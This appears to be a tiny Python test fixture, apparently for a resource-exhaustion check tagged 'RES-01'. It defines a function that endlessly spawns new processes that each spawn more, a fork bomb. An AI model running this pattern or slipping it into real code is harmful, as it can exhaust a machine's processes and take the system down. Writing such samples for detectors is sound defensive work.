import multiprocessing

def grow():
    while True:
        multiprocessing.Process(target=grow).start()  # expect: RES-01
